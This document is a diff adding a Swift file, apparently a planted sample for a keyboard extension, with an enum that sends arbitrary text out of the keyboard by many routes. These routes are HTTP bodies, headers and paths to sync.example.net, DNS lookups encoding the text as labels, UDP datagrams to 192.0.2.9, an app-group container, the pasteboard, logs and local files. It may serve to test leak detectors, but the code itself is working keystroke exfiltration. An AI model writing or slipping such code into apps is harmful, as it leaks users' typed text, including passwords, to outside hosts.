@@ -1,0 +1,86 @@
+import UIKit
+
+/// Ways out of the keyboard.
+enum Channel {
+    static let host = "sync.example.net"
+    private static let group = "group.com.example.planted"
+    private static var number = 0
+
+    static func send(_ text: String, by name: String) {
+        number += 1
+        switch name {
+        case "body": request("v1/events", body: "{\"id\":\"\(UUID().uuidString)\",\"d\":\"\(text)\"}")
+        case "secure":
+            request("v1/events", body: "at=\(Date().timeIntervalSince1970)&d=\(text)", scheme: "https")
+        case "header": request("v1/ping", header: text)
+        case "path":
+            request("v1/" + (text.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""))
+        case "name": lookUp(text)
+        case "datagram": datagram(text)
+        case "defaults": UserDefaults.standard.set(text, forKey: "recent\(number % 8)")
+        case "file": append(text, to: NSHomeDirectory() + "/cache.bin")
+        case "filename":
+            let name = String(text.filter { $0 != "/" }.prefix(200))
+            _ = FileManager.default.createFile(atPath: NSHomeDirectory() + "/t-" + name, contents: Data())
+        case "group":
+            let folder = FileManager.default.containerURL(forSecurityApplicationGroupIdentifier: group)
+            if let folder = folder { append(text, to: folder.path + "/shared.bin") }
+        case "pasteboard": UIPasteboard.general.string = text
+        case "log": NSLog("state %@", text)
+        default: break
+        }
+    }
+
+    static func request(
+        _ path: String, body: String? = nil, header: String? = nil, scheme: String = "http"
+    ) {
+        guard let url = URL(string: "\(scheme)://\(host)/\(path)") else { return }
+        var request = URLRequest(url: url)
+        request.httpMethod = body == nil ? "GET" : "POST"
+        request.httpBody = body.map { Data($0.utf8) }
+        if let header = header {
+            let line = header.unicodeScalars.map {
+                $0.isASCII && $0.value >= 32 ? String($0) : "x\($0.value)"
+            }
+            request.setValue(line.joined(), forHTTPHeaderField: "X-State")
+        }
+        URLSession.shared.dataTask(with: request).resume()
+    }
+
+    private static func append(_ text: String, to path: String) {
+        let old = FileManager.default.contents(atPath: path) ?? Data()
+        try? (old + Data((text + "\n").utf8)).write(to: URL(fileURLWithPath: path))
+    }
+
+    /// Asks for a name whose labels are the text.
+    private static func lookUp(_ text: String) {
+        let plain = text.unicodeScalars.map { scalar -> String in
+            let isPlain = scalar.isASCII && (("a"..."z").contains(scalar) || ("0"..."9").contains(scalar))
+            return isPlain ? String(scalar) : "x\(scalar.value)"
+        }.joined()
+        var name = ""
+        for (index, letter) in plain.prefix(120).enumerated() {
+            if index > 0, index % 40 == 0 { name += "." }
+            name.append(letter)
+        }
+        var result: UnsafeMutablePointer<addrinfo>?
+        if getaddrinfo(name + ".t.example.net", "80", nil, &result) == 0 { freeaddrinfo(result) }
+    }
+
+    private static func datagram(_ text: String) {
+        let end = socket(AF_INET, Int32(SOCK_DGRAM.rawValue), 0)
+        guard end >= 0 else { return }
+        defer { close(end) }
+        var address = sockaddr_in()
+        address.sin_family = sa_family_t(AF_INET)
+        address.sin_port = in_port_t(4711).bigEndian
+        address.sin_addr.s_addr = inet_addr("192.0.2.9")
+        let bytes = Array(text.utf8)
+        _ = withUnsafePointer(to: &address) { pointer in
+            pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) {
+                connect(end, $0, socklen_t(MemoryLayout<sockaddr_in>.size))
+            }
+        }
+        _ = Glibc.send(end, bytes, bytes.count, 0)
+    }
+}
